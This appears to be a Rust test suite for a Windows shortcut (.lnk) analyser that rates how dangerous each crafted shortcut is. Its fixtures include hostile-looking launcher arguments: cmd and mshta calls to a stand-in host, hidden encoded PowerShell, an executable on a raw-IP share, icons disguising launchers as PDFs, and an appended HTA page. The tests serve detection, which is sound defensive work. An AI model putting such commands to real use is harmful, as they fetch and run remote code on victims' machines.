//! Shortcuts of many shapes, and what is told of each.

use super::builder::{Shape, build};
use crate::{Budget, Danger, DeedKind, Keys, Kind, Opened, open};

fn opened(bytes: &[u8]) -> (Opened, Vec<(Kind, usize)>) {
    let mut members = Vec::new();
    let opened = open(bytes, Kind::Lnk, &Keys::default(), &mut Budget::default(), &mut |member| {
        members.push((crate::kind(&member.bytes), member.bytes.len()));
    });
    (opened, members)
}

fn judged(shape: &Shape<'_>) -> (DeedKind, Danger) {
    let bytes = build(shape);
    assert_eq!(crate::kind(&bytes), Kind::Lnk);
    let (opened, _) = opened(&bytes);
    assert_eq!(opened.unread, [], "{opened:?}");
    let [deed] = &opened.deeds[..] else { panic!("{opened:?}") };
    println!("{deed:?}");
    (deed.kind, deed.danger)
}

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

#[test]
fn commands_are_dangerous() {
    let long = format!("/c {} echo", "a".repeat(300));
    let padded = format!("{}/c calc", " ".repeat(300));
    for shape in [
        Shape { local: CMD, arguments: "/c start http://bad.example/a", ..Shape::default() },
        Shape { local: CMD, arguments: &long, ..Shape::default() },
        Shape { local: "C:\\App\\tool.exe", arguments: &padded, ..Shape::default() },
        Shape {
            local: POWERSHELL,
            arguments: "-w hidden -e ZABpAHIA",
            icon: "report.pdf",
            ..Shape::default()
        },
        Shape { environment: "%ComSpec%", arguments: "/c copy a b", ..Shape::default() },
        Shape {
            items: &["Windows", "System32", "mshta.exe"],
            arguments: "http://bad.example/a",
            ..Shape::default()
        },
        Shape { relative: ".\\資料\\開く.js", ..Shape::default() },
        Shape { relative: "setup.exe", icon: "C:\\Windows\\System32\\imageres.dll", ..Shape::default() },
        Shape { local: "C:\\App\\tool.exe", icon: "%ProgramFiles%\\Adobe\\AcroRd32.exe", ..Shape::default() },
        Shape { share: ("\\\\203.0.113.9\\share", "update.exe"), ..Shape::default() },
        Shape { share: ("\\\\files.example@80\\DavWWWRoot", "請求書.vbs"), ..Shape::default() },
        Shape {
            local: "C:\\Windows\\explorer.exe",
            arguments: "\\\\files.example@SSL\\a\\b.exe",
            ..Shape::default()
        },
    ] {
        assert_eq!(judged(&shape), (DeedKind::Command, Danger::Dangerous));
    }
}

#[test]
fn programs_are_active() {
    for shape in [
        Shape { local: "C:\\Program Files\\App\\app.exe", ..Shape::default() },
        Shape {
            local: "C:\\Program Files\\App\\app.exe",
            arguments: "--open",
            icon: "C:\\Program Files\\App\\app.ico",
            ..Shape::default()
        },
        Shape {
            local: "C:\\Office\\EXCEL.EXE",
            arguments: "\"\\\\fs01\\共有\\勤務表.xlsx\"",
            icon: "xlicons.exe",
            ..Shape::default()
        },
        Shape { share: ("\\\\fs01\\tools", "logon.bat"), ..Shape::default() },
        Shape { local: CMD, ..Shape::default() },
        Shape { local: "C:\\Windows\\explorer.exe", arguments: "\\\\fs01\\共有", ..Shape::default() },
    ] {
        assert_eq!(judged(&shape), (DeedKind::Command, Danger::Active));
    }
}

#[test]
fn documents_on_a_file_server_are_harmless() {
    for (shape, place) in [
        (
            Shape {
                share: ("\\\\fs01\\共有", "総務\\規程.docx"),
                ansi: true,
                name: "規程",
                ..Shape::default()
            },
            "\\\\fs01\\共有\\総務\\規程.docx",
        ),
        (
            Shape {
                local: "D:\\資料\\見積.xlsx",
                relative: "..\\資料\\見積.xlsx",
                working: "D:\\資料",
                ..Shape::default()
            },
            "D:\\資料\\見積.xlsx",
        ),
        (Shape { items: &["資料", "議事録.txt"], ..Shape::default() }, "C:\\資料\\議事録.txt"),
        (
            Shape {
                share: ("\\\\192.168.0.10\\scan", ""),
                icon: "\\\\192.168.0.10\\scan\\folder.ico",
                ..Shape::default()
            },
            "\\\\192.168.0.10\\scan",
        ),
    ] {
        let (opened, _) = opened(&build(&shape));
        assert_eq!(
            (opened.deeds[0].kind, opened.deeds[0].danger),
            (DeedKind::Link, Danger::Harmless),
            "{opened:?}"
        );
        assert_eq!(opened.deeds[0].place, place);
        assert_eq!(opened.unread, []);
    }
}

#[test]
fn the_command_is_shown_decoded() {
    let shape = Shape { local: POWERSHELL, arguments: "-nop -e ZABpAHIAIABDADoA", ..Shape::default() };
    let (opened, _) = opened(&build(&shape));
    assert!(opened.deeds[0].strings.iter().any(|text| text == "dir C:"), "{opened:?}");
    assert!(opened.deeds[0].does.iter().any(|word| word == "-EncodedCommand"), "{opened:?}");
}

#[test]
fn what_stands_behind_the_end_is_handed_out() {
    let page = b"\0\0\x01\x02junk <html><hta:application><script>var a = 1;</script></html>";
    let shape = Shape { local: CMD, arguments: "/c mshta %~0", appended: page, ..Shape::default() };
    let (told, members) = opened(&build(&shape));
    assert_eq!(members.iter().map(|member| member.1).collect::<Vec<_>>(), [page.len(), page.len() - 9]);
    assert_eq!(members[1].0, Kind::Hta);
    assert!(told.deeds[0].does.iter().any(|word| word.contains("behind the end")), "{told:?}");
    // A sector's leftovers of zeros are nothing.
    let shape = Shape { local: "D:\\a.txt", appended: &[0; 400], ..Shape::default() };
    assert_eq!(opened(&build(&shape)).1, []);
}

#[test]
fn cut_and_changed_shortcuts_end_and_are_never_clean() {
    let whole = build(&Shape {
        items: &["Windows", "cmd.exe"],
        local: CMD,
        name: "資料",
        arguments: "/c powershell -e ZABpAHIAIABDADoA",
        icon: "report.pdf",
        environment: "%ComSpec%",
        ..Shape::default()
    });
    // All but the last four bytes, which end the blocks and may be left out.
    for end in 0..whole.len() - 4 {
        let (opened, _) = opened(&whole[..end]);
        assert!(
            !opened.unread.is_empty() || opened.deeds[0].danger == Danger::Dangerous,
            "{end}: {opened:?}"
        );
    }
    let mut seed = 7_u32;
    for _ in 0..4000 {
        let mut changed = whole.clone();
        for _ in 0..4 {
            seed = seed.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            let at = (seed >> 8) as usize % changed.len();
            changed[at] = (seed & 0xff) as u8;
        }
        let _ = opened(&changed);
    }
}
